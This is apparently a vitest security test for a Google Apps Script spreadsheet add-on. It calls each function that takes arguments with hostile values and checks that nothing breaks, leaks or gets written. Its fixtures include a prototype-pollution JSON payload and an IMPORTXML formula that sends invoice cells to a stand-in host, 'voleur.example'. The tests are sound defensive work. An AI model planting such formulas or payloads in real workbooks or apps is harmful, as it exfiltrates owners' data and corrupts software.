import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
import { entryPointsOf } from "../../apps-script/bundle/gas-globals.ts";
import { type Made, workbookOf } from "../apps-script/built-add-on.ts";
import { type BuiltCode, builtCode } from "../apps-script/built-code.ts";
import { copyWorkbook, serialise, type Workbook } from "../sandbox/workbook/workbook.ts";
import { ROOT } from "../structure/imports.ts";

vi.setConfig({ testTimeout: 60_000 });

let code: BuiltCode;
let known: Workbook;
beforeAll(async () => {
  code = await builtCode();
  known = workbookOf({
    Factures: [
      ["Client", "N° facture", "Date", "Échéance", "Montant TTC"],
      ...["Alpha", "Bravo"].map((name, at): readonly Made[] => [
        name,
        `FA-${at}`,
        { day: "2026-06-01" },
        { day: "2026-07-01" },
        100 + at,
      ]),
    ],
  });
  code.run(known, "refresh", [], { today: "2026-11-17" });
}, 60_000);
afterAll(() => code.remove());

/** Every function that a page of ours, or whoever holds the script's identifier and a right to it, may call with values. */
const TAKING = entryPointsOf(join(ROOT, "apps-script/entry.ts")).filter(
  ({ name, parameters }) => parameters.length > 0 && !/^[A-Z_]+$/.test(name) && !name.startsWith("on"),
);

/** As a page sends them: what JSON may hold, `__proto__` as a key of its own. */
const PROTO: unknown = JSON.parse(
  '{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}},"kind":"__proto__","question":"constructor","customer":"__proto__","typed":{"__proto__":"x"},"ids":{"first":"a","next":"b"}}',
);
const FORMULA = '=IMPORTXML("https://voleur.example/?"&Factures!A2;"//a")';

const HOSTILE: readonly (readonly [what: string, value: unknown])[] = [
  ["__proto__ et constructor comme clés", PROTO],
  ["une formule", FORMULA],
];

/** What was the owner's before any call. */
const ownTab = (workbook: Workbook): string =>
  JSON.stringify(workbook.sheets.find(({ title }) => title === "Factures")?.rows);

describe("Chaque fonction appelable du complément, avec des valeurs hostiles", () => {
  it("les fonctions qui prennent des valeurs sont bien trouvées", () => {
    const names = TAKING.map(({ name }) => name);
    expect(names).toEqual(expect.arrayContaining(["importFec", "recordEvents", "saveContact", "goToCell"]));
    expect(names.length).toBeGreaterThan(15);
  });

  it.each(HOSTILE)(
    "%s : un refus en français ou rien ; ni formule, ni cellule du propriétaire changée",
    (_what, value) => {
      const before = serialise(known);
      const own = ownTab(known);
      for (const { name, parameters } of TAKING) {
        const workbook = copyWorkbook(known);
        const { error } = code.run(
          workbook,
          name,
          parameters.map(() => value),
          { today: "2026-11-17" },
        );
        // A sentence for the owner, never what the engine says of our code.
        const said = error?.errorMessage ?? "";
        expect([name, /is not|undefined|Cannot|null|\[object/.test(said) ? said : "calme"]).toEqual([
          name,
          "calme",
        ]);
        expect([name, ownTab(workbook)]).toEqual([name, own]);
        expect([name, JSON.stringify(serialise(workbook)).includes('"formula":"=IMPORTXML')]).toEqual([
          name,
          false,
        ]);
      }
      expect(serialise(known)).toEqual(before);
      expect("polluted" in {}).toBe(false);
    },
  );
});
